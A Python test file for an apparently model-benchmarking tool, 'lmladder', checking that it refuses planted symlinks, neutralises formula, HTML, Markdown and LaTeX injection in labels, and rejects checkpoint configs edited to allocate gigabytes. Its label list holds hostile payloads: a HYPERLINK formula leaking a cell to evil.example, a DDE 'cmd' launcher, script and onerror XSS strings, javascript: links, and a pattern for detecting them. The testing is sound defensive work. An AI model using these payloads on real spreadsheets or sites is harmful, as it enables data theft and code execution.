"""Hostile inputs, security class (issue 23): links planted in a results or model folder are
refused and never written through; labels carrying formula, HTML, Markdown or LaTeX are
neutralised in every export; a ``model.json`` whose sizes were edited is refused against the
state file's array shapes before anything of the config's size is allocated.

Every link test plants a link to a victim file (or folder) outside the results folder and checks
that lmladder refuses with one line naming the link, and that the victim is untouched.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import resource
import time
import zipfile
from pathlib import Path

import numpy as np
import pytest

from lmladder import CheckpointError, registry
from lmladder.cli import main
from lmladder.files import LinkError, atomic_write, open_nofollow, read_regular, remove_orphans
from lmladder.record import RecordError
from lmladder.registry import load_model
from lmladder.reports.exports import (
    csv_text,
    dataset_tables,
    markdown_escape,
    markdown_tables,
    markdown_text,
    neutralise,
    record_rows,
)
from lmladder.reports.latex import latex_escape, latex_text
from lmladder.reports.render import render_report
from lmladder.reports.rows import Context
from lmladder.results import read_record, scan_records, write_record
from lmladder.run import load_matrix, run_matrix
from lmladder.runner import ResultsError, cell_lock
from tests import contract
from tests.helpers import write_matrix
from tests.test_exports import make

SECRET = "the victim's own content\n"
LINK_WORDS = "is a symbolic link; lmladder does not"


@pytest.fixture
def victim(tmp_path) -> Path:
    """A file outside every results folder that a planted link points to."""
    path = tmp_path / "outside" / "victim.txt"
    path.parent.mkdir()
    path.write_text(SECRET)
    return path


def _untouched(victim: Path) -> None:
    assert victim.read_text() == SECRET


def _matrix(tmp_path: Path):
    return load_matrix(str(write_matrix(
        tmp_path / "m.toml", [{"name": "uniform", "label": "U"}],
        scoring={"accuracy_tokens": 100}, datasets=["synthetic"], devices=["cpu"], threads=1)))


@pytest.fixture
def ran(tmp_path):
    """A results folder after one run of the uniform model: (matrix, folder, record path)."""
    matrix, results = _matrix(tmp_path), tmp_path / "res"
    summary = run_matrix(matrix, results, isolated=False)
    (record,) = summary.paths
    return matrix, results, record


def _run_again(matrix, results, **kwargs):
    return run_matrix(matrix, results, isolated=False, **kwargs)


# ---- links: locks ---------------------------------------------------------------------------


def test_a_planted_lock_link_is_refused_and_its_target_untouched(ran, victim):
    matrix, results, record = ran
    lock = results / ".locks" / f"{record.stem}.lock"
    assert lock.is_file()
    lock.unlink()
    lock.symlink_to(victim)
    record.unlink()  # the cell is to be run again, so its lock is taken
    with pytest.raises(LinkError, match=re.escape(f"{lock}: {LINK_WORDS} write through")):
        _run_again(matrix, results)
    _untouched(victim)


def test_a_dangling_lock_link_creates_nothing(tmp_path):
    target = tmp_path / "created-by-nobody"
    lock = cell_lock(tmp_path / "res", "x")
    lock.path.parent.mkdir(parents=True)
    lock.path.symlink_to(target)
    with pytest.raises(LinkError, match="remove it"):
        lock.acquire(block=False)
    assert not target.exists()


def test_a_locks_folder_that_is_a_link_is_refused(tmp_path, victim):
    results = tmp_path / "res"
    results.mkdir()
    (results / ".locks").symlink_to(victim.parent, target_is_directory=True)
    with pytest.raises(LinkError, match=re.escape(f"{results / '.locks'}: {LINK_WORDS}")):
        run_matrix(_matrix(tmp_path), results, isolated=False)
    assert sorted(p.name for p in victim.parent.iterdir()) == ["victim.txt"]
    _untouched(victim)


def test_the_cli_says_it_in_one_line(ran, victim, capsys):
    matrix, results, record = ran
    (results / ".locks").rename(results / "old-locks")
    (results / ".locks").symlink_to(victim.parent, target_is_directory=True)
    rc = main(["run", str(matrix.path), "--results", str(results), "--force"])
    err = capsys.readouterr().err.strip()
    assert rc == 2 and "\n" not in err and "internal error" not in err
    assert err.endswith(f"{results / '.locks'}: {LINK_WORDS} write through links in a results "
                        "folder: remove it")
    _untouched(victim)


# ---- links: records ---------------------------------------------------------------------------


def test_a_record_that_is_a_link_is_never_read_nor_written_through(ran, victim):
    matrix, results, record = ran
    saved = record.read_text()
    victim.write_text(saved)  # a valid record elsewhere: still not read through the link
    record.unlink()
    record.symlink_to(victim)
    with pytest.raises(RecordError, match=re.escape(f"{record}: {LINK_WORDS} read records")):
        read_record(record)
    scan = scan_records(results)
    assert scan.records == [] and any(LINK_WORDS in line for line in scan.unreadable)
    with pytest.raises(LinkError, match=re.escape(str(record))):  # before the cell is run
        _run_again(matrix, results, force=True)
    with pytest.raises(LinkError):
        write_record(record, read_record(victim))
    assert victim.read_text() == saved


def test_a_failed_attempt_or_export_never_writes_through_a_link(tmp_path, victim):
    link = tmp_path / "res" / "results.md"
    link.parent.mkdir()
    link.symlink_to(victim)
    with pytest.raises(LinkError, match="remove it"):
        atomic_write(link, "# overwritten")
    _untouched(victim)
    assert [p.name for p in link.parent.iterdir()] == ["results.md"]  # no temporary file left


@pytest.mark.parametrize("export", ["results.csv", "results.md", "results.tex", "results.json",
                                    "report.html"])
def test_the_report_refuses_a_planted_export_link(ran, victim, export):
    _, results, _ = ran
    (results / export).symlink_to(victim)
    with pytest.raises(LinkError, match=re.escape(str(results / export))):
        render_report(results, results / "report.html", reference=False)
    _untouched(victim)


def test_reading_refuses_fifos_and_links(tmp_path, victim):
    fifo = tmp_path / "x__synthetic__seed0__cpu__0123456789abcdef.json"
    os.mkfifo(fifo)
    with pytest.raises(RecordError, match="not a regular file"):
        read_record(fifo)  # returns at once: a FIFO is never read
    link = tmp_path / "link"
    link.symlink_to(victim)
    with pytest.raises(LinkError):
        read_regular(link)
    with pytest.raises(LinkError):
        open_nofollow(link, os.O_WRONLY | os.O_TRUNC)
    _untouched(victim)


# ---- links: temporary files -------------------------------------------------------------------


def test_temporary_files_are_new_files_never_planted_links(tmp_path, victim):
    folder = tmp_path / "res"
    folder.mkdir()
    # what an old lmladder's fixed names and a guessed temporary name would be
    for name in (".state.npz.tmp", ".model.json.tmp", f".tmp-{os.getpid()}-guess.json"):
        (folder / name).symlink_to(victim)
    atomic_write(folder / "a.json", "{}")
    assert (folder / "a.json").read_text() == "{}" and not (folder / "a.json").is_symlink()
    model = contract.fitted(registry.build("kn3", smoke=True), contract.tiny_dataset())
    for name in (".state.npz.tmp", ".model.json.tmp"):
        (folder / "m").mkdir(exist_ok=True)
        (folder / "m" / name).symlink_to(victim)
    model.save(folder / "m")
    assert load_model(folder / "m").config() == model.config()
    _untouched(victim)
    dead = folder / ".tmp-999999999-x.json"  # a "temporary file" of a dead process
    dead.symlink_to(victim)
    assert dead in remove_orphans(folder)
    _untouched(victim)


# ---- links: model folders ---------------------------------------------------------------------


def test_save_refuses_a_model_folder_or_file_that_is_a_link(tmp_path, victim):
    model = contract.fitted(registry.build("kn3", smoke=True), contract.tiny_dataset())
    folder = tmp_path / "linked-model"
    folder.symlink_to(victim.parent, target_is_directory=True)
    with pytest.raises(OSError, match=re.escape(f"{folder}: {LINK_WORDS} write through links "
                                                "in a model folder: remove it")):
        model.save(folder)
    assert sorted(p.name for p in victim.parent.iterdir()) == ["victim.txt"]
    real = tmp_path / "real-model"
    model.save(real)
    for name in ("state.npz", "model.json"):
        saved = (real / name).read_bytes()
        (real / name).unlink()
        (real / name).symlink_to(victim)
        with pytest.raises(OSError, match=re.escape(f"{real / name}: {LINK_WORDS}")):
            model.save(real)
        with pytest.raises(CheckpointError, match=re.escape(f"{real / name}: {LINK_WORDS}")):
            load_model(real)
        (real / name).unlink()
        (real / name).write_bytes(saved)
    _untouched(victim)


@pytest.mark.parametrize("which", ["model", "partial"])
def test_a_run_refuses_a_planted_model_folder_link(ran, victim, which):
    matrix, results, record = ran
    folder = record.with_name(record.stem + ".model")
    if which == "partial":
        folder = folder.with_name(".partial-" + folder.name)
    folder.symlink_to(victim.parent, target_is_directory=True)
    with pytest.raises(LinkError, match=re.escape(f"{folder}: {LINK_WORDS}")):
        _run_again(matrix, results, force=True, save_models=True)
    assert sorted(p.name for p in victim.parent.iterdir()) == ["victim.txt"]
    _untouched(victim)


def test_the_named_results_folder_may_itself_be_a_link(tmp_path):
    """The folder a user names is the user's choice (a link to a bigger disk); only links
    inside it are refused."""
    real = tmp_path / "disk" / "res"
    real.mkdir(parents=True)
    (tmp_path / "res").symlink_to(real, target_is_directory=True)
    summary = run_matrix(_matrix(tmp_path), tmp_path / "res", isolated=False)
    assert summary.done == 1 and len(list(real.glob("*.json"))) == 1


def test_a_results_path_that_is_a_file_link_is_still_a_file(tmp_path, victim):
    results = tmp_path / "res"
    results.symlink_to(victim)
    with pytest.raises(ResultsError, match="is a file"):
        run_matrix(_matrix(tmp_path), results, isolated=False)
    _untouched(victim)


# ---- injection: CSV, Markdown, LaTeX, HTML ----------------------------------------------------

EVIL_LABELS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd", "-2+3", " =1+1", "  @SUM(A1)", "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>", "a | b | c", "&lt;b&gt; & co", "x\\y {z} $m$ & #1 ^2 _3 ~4 %5",
    "[1cm] [link](javascript:alert(3)) ![i](http://x/i.png) `code` *em* __b__",
    "</script><script>alert(4)</script>", "\"quoted\", comma",
]
SCRIPT = re.compile(r"<\s*(script|img|svg|iframe)\b|onerror\s*=|javascript:", re.I)


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\t=1", "\r=1", " =1", "\u00a0@x",
                                  "\n=1", "\x0b+1", "   -cmd"])
def test_csv_neutralises_formulas_also_after_leading_white_space(text):
    assert neutralise(text) == "'" + text
    assert neutralise(" plain") == " plain" and neutralise(-1.0) == -1.0


def _ctx() -> Context:
    return Context([make(label, ppl=100.0 + i, seed=0) for i, label in enumerate(EVIL_LABELS)])


def test_every_csv_text_cell_is_neutralised():
    rows = record_rows(_ctx())
    for row in rows:  # notes, flags and rank notes of hostile text too
        row.update(flags="=cmd()", trained="@SUM(1)", task_x_rank_note="-1+1")
    parsed = list(csv.DictReader(io.StringIO(csv_text(rows))))
    assert len(parsed) == len(EVIL_LABELS)
    for row in parsed:
        for name, value in row.items():
            assert not value.lstrip().startswith(("=", "+", "@", "\t", "\r")), (name, value)
            assert not value.lstrip().startswith("-") or re.fullmatch(r"-[\d.e+-]+", value)


def test_markdown_escapes_html_and_table_breakers():
    text = markdown_tables(dataset_tables(_ctx()), title="<b>t</b> | x")
    assert "<" not in text and ">" not in text  # no tag, no autolink (no note has a URL)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text and "&amp;lt;b&amp;gt; &amp; co" in text
    header = next(line for line in text.splitlines() if line.startswith("| Model"))
    columns = len(re.split(r"(?<!\\)\|", header))
    for line in text.splitlines():
        if line.startswith("|"):
            assert len(re.split(r"(?<!\\)\|", line)) == columns, line
    assert markdown_escape("a & b\x0bc\u2028d") == "a &amp; b c d"
    flat = markdown_text([{"model": label, "<th>": 1.0} for label in EVIL_LABELS])
    assert "<" not in flat and all(len(re.split(r"(?<!\\)\|", line)) == 4
                                   for line in flat.splitlines())


def test_latex_escapes_every_special_character_of_a_label():
    text = latex_text(dataset_tables(_ctx()), title="50% & $x$")
    body = text.split(r"\begin{document}", 1)[1]
    assert latex_escape("x\\y {z} $m$ & #1 ^2 _3 ~4 %5 [1cm]\x07") == (
        r"x\textbackslash{}y \{z\} \$m\$ \& \#1 \textasciicircum{}2 \_3 "
        r"\textasciitilde{}4 \%5 {[}1cm{]}?")
    assert latex_escape("x\\y {z} $m$ & #1 ^2 _3 ~4 %5") in body
    assert latex_escape(EVIL_LABELS[11]).startswith("{[}1cm{]}")
    for row in body.splitlines():
        if row.endswith(r"\\") and "&" in row:  # a table row: as many cells as columns
            assert len(re.findall(r"(?<!\\)&", row)) == 6, row


def test_the_html_report_never_shows_a_hostile_label_unescaped(tmp_path):
    results = tmp_path / "res"
    results.mkdir()
    for record in _ctx().records:
        write_record(results / f"{record.cell.label[:1].isalnum()}__ptb__seed0__cpu__"
                               f"{record.key}.json", record)
    assert len(scan_records(results).records) == len(EVIL_LABELS)
    page = render_report(results, tmp_path / "out" / "report.html", reference=False).read_text()
    for raw in ("<script>alert(1)", "<img src=x", "</script><script>alert(4)",
                'href="javascript:', "src=\"http://x/i.png"):
        assert raw not in page, raw
    assert page.count("alert(1)") >= 1  # the label is on the page, as text
    for m in re.finditer(r"<script\b[^>]*>(.*?)</script>", page, re.S):
        assert "alert(" not in m.group(1).replace("\\u003c", "").replace("\\/", "") or \
            "<" not in m.group(1)  # JSON in the page: no tag can close its script element
    for name in ("results.md", "results.tex"):  # CSV is not markup: its cells stay as given
        assert "<script>" not in (tmp_path / "out" / name).read_text()


# ---- model.json sizes against the state file --------------------------------------------------

# registry name -> config edits that would allocate gigabytes if trusted
EDITS = {
    "lstm": {"hidden": 20000},
    "gru": {"layers": 300},
    "transformer": {"width": 16384},
    "hmm": {"states": 20000},
    "hmm-hmmlearn": {"states": 20000},
    "kn3": {"order": 6},
    "hf-gpt2": {"n_embd": 16384},
    "hf-bert": {"n_embd": 16384},
}


@pytest.fixture(scope="module")
def saved_models(tmp_path_factory):
    data = contract.tiny_dataset()
    root = tmp_path_factory.mktemp("sizes")
    out = {}
    for name in EDITS:
        if name.startswith("hf-"):
            pytest.importorskip("transformers")
        model = contract.fitted(registry.build(name, smoke=True), data)
        out[name] = model.save(root / name)
    rotary = registry.build("transformer", {"positions": "rotary"}, smoke=True)
    out["transformer-rotary"] = contract.fitted(rotary, data).save(root / "transformer-rotary")
    return out


def _edit(folder: Path, tmp_path: Path, changes: dict) -> Path:
    copy = tmp_path / folder.name
    copy.mkdir()
    (copy / "state.npz").write_bytes((folder / "state.npz").read_bytes())
    meta = json.loads((folder / "model.json").read_text())
    meta["config"].update(changes)
    (copy / "model.json").write_text(json.dumps(meta))
    return copy


def _refused_quickly(folder: Path) -> str:
    rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    t0 = time.perf_counter()
    with pytest.raises(CheckpointError) as err:
        load_model(folder)
    assert time.perf_counter() - t0 < 2.0
    grown_mib = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss) / 1024
    assert grown_mib < 300, f"loading allocated {grown_mib:.0f} MiB before refusing"
    message = str(err.value)
    assert "\n" not in message
    return message


@pytest.mark.parametrize("name", EDITS)
def test_edited_sizes_are_refused_before_allocating(name, saved_models, tmp_path):
    if name not in saved_models:
        pytest.skip("transformers is not installed")
    changes = EDITS[name]
    message = _refused_quickly(_edit(saved_models[name], tmp_path, changes))
    assert message.startswith(str(tmp_path / name))
    (key, value), = changes.items()
    if name == "kn3":  # the config check bounds the order; a larger one names a missing table
        assert "keys_4" in message or "order" in message
    elif name == "gru":  # more layers than saved: the missing arrays are named
        assert "missing array" in message and "model.json" in message
    else:
        assert f"{key}={value}" in message and "has shape (" in message, message
        assert "state.npz" in message


def test_rotary_tables_no_array_bounds_are_bounded_too(saved_models, tmp_path):
    folder = _edit(saved_models["transformer-rotary"], tmp_path, {"context": 50_000_000})
    message = _refused_quickly(folder)
    assert "context=50000000" in message and "no saved array bounds" in message


def test_an_array_header_that_claims_more_than_the_file_holds_is_refused(saved_models, tmp_path):
    folder = _edit(saved_models["kn3"], tmp_path, {})
    with zipfile.ZipFile(folder / "state.npz") as z:
        members = {i.filename: z.read(i) for i in z.infolist()}
    name = next(n for n in members if n.startswith("logp_1"))
    body = io.BytesIO()
    np.lib.format.write_array_header_1_0(body, {"descr": "<f8", "fortran_order": False,
                                                "shape": (100_000, 100_000)})
    members[name] = body.getvalue() + b"\0" * 64
    with zipfile.ZipFile(folder / "state.npz", "w") as z:
        for n, data in members.items():
            z.writestr(n, data)
    message = _refused_quickly(folder)
    assert "claims shape (100000, 100000)" in message and "logp_1" in message


def test_unedited_checkpoints_still_load(saved_models):
    for folder in saved_models.values():
        assert load_model(folder).vocab_ is not None
